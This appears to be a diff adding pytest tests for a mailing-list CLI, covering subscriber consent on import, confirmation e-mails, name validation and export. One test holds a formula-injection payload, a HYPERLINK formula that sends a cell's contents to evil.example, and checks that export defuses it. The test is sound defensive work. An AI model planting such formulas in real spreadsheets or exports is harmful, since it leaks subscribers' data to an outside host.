@@ -152,7 +152,7 @@ def test_export_round_trips_through_import(cli, workdir: Path, tmp_path: Path) -
         (other / name).write_text(text, encoding="utf-8")
         result = run_cli("init", cwd=other)
         assert result.returncode == 0, result.stderr
-        result = run_cli("subscribers", "import", name, cwd=other)
+        result = run_cli("subscribers", "import", name, "--confirmed", cwd=other)
         assert result.returncode == 0, result.stderr
         assert "3 added" in result.stdout
         again = run_cli("subscribers", "export", "--format", "json", cwd=other)
@@ -163,7 +163,11 @@ def test_export_round_trips_through_import(cli, workdir: Path, tmp_path: Path) -
 
 def test_list_count_remove(cli, workdir: Path) -> None:  # type: ignore[no-untyped-def]
     cli("subscribers", "add", "a@example.org", "--confirmed", "--name", "A")
-    cli("subscribers", "add", "b@example.org")
+    cli("subscribers", "add", "b@example.org", "--no-email")
+    cli("subscribers", "add", "a_b@example.org", "--no-email")
+    assert cli("subscribers", "list", "--search", "a_").output.startswith("a_b@example.org\t")
+    assert len(cli("subscribers", "list", "--search", "a_").output.splitlines()) == 1
+    cli("subscribers", "remove", "a_b@example.org", "--yes")
     assert cli("subscribers", "count").output == "2\n"
     assert cli("subscribers", "count", "--status", "active").output == "1\n"
     listing = cli("subscribers", "list", "--status", "pending").output
@@ -208,3 +212,69 @@ def test_addresses_must_fit_plain_smtp(cli, workdir: Path) -> None:  # type: ign
     r = cli("subscribers", "add", "ann@bücher.example", "--confirmed")
     assert r.exit_code == 0, r.output
     assert "ann@xn--bcher-kva.example" in rows(workdir)
+
+
+def test_file_status_cannot_grant_consent(cli, workdir: Path) -> None:  # type: ignore[no-untyped-def]
+    (workdir / "p.csv").write_text(
+        "email,name,status\nnew@example.org,New,active\nleft@example.org,Left,unsubscribed\n"
+        "never@example.org,Never,pending\n"
+    )
+    r = cli("subscribers", "import", "p.csv")
+    assert "New subscribers are pending" in r.output
+    assert {k: v.status for k, v in rows(workdir).items()} == {
+        "new@example.org": "pending",
+        "left@example.org": "unsubscribed",
+        "never@example.org": "pending",
+    }
+    r = cli("subscribers", "import", "p.csv", "--confirmed")
+    assert rows(workdir)["new@example.org"].status == "active"
+    assert rows(workdir)["never@example.org"].status == "pending"  # never confirmed anywhere
+    (workdir / "q.csv").write_text("email,status\nnew@example.org,complained\n")
+    r = cli("subscribers", "import", "q.csv")
+    assert "1 now unsubscribed, bounced or complained (from the file)" in r.output
+    assert rows(workdir)["new@example.org"].status == "complained"
+
+
+def test_export_defuses_spreadsheet_formulas(cli, workdir: Path) -> None:  # type: ignore[no-untyped-def]
+    evil = '=HYPERLINK("http://evil.example/"&A1,"x")'
+    cli("subscribers", "add", "f@example.org", "--name", evil, "--confirmed")
+    out = cli("subscribers", "export").output
+    row = list(csv.DictReader(io.StringIO(out)))[0]
+    assert row["name"] == "'" + evil
+    (workdir / "back.csv").write_text(out)
+    cli("subscribers", "remove", "f@example.org", "--yes")
+    cli("subscribers", "import", "back.csv", "--confirmed")
+    assert rows(workdir)["f@example.org"].name == evil
+
+
+def test_names_that_cannot_be_mailed_are_refused(cli) -> None:  # type: ignore[no-untyped-def]
+    r = cli("subscribers", "add", "n@example.org", "--name", "Ann =?utf-8?q?x?=")
+    assert r.exit_code == 1 and "the name contains '=?'" in r.output
+    r = cli("subscribers", "add", "n@example.org", "--name", "漢" * 200)
+    assert r.exit_code == 1 and "longer than 450 bytes in UTF-8" in r.output
+
+
+def test_add_pending_mails_the_confirmation_link(cli, workdir: Path) -> None:  # type: ignore[no-untyped-def]
+    r = cli("subscribers", "add", "p@example.org", "--name", "Pat")
+    assert r.exit_code == 0, r.output
+    assert "Added p@example.org (pending)." in r.output
+    assert "Sent the confirmation link to p@example.org." in r.output
+    (eml,) = (workdir / "outbox").glob("*.eml")
+    data = eml.read_bytes()
+    assert b"\r\nTo: p@example.org\r\n" in data
+    assert b"/confirm/" in data
+    r = cli("subscribers", "send-confirmations", "p@example.org")
+    assert "A confirmation link was sent to this address today already." in r.output
+    assert len(list((workdir / "outbox").glob("*.eml"))) == 1
+    cli("subscribers", "add", "q@example.org", "--no-email")
+    cli("subscribers", "add", "r@example.org", "--confirmed")
+    r = cli("subscribers", "send-confirmations")
+    assert "Confirmation e-mails: 1 sent, 1 already sent today, 0 failed." in r.output
+    r = cli("subscribers", "send-confirmations", "r@example.org")
+    assert r.exit_code == 1 and "Error: r@example.org is active, not pending" in r.output
+
+
+def test_export_to_unwritable_path(cli) -> None:  # type: ignore[no-untyped-def]
+    r = cli("subscribers", "export", "-o", "/nonexistent/dir/x.csv")
+    assert r.exit_code == 1
+    assert "Error: /nonexistent/dir/x.csv: cannot write it (No such file or directory)" in r.output
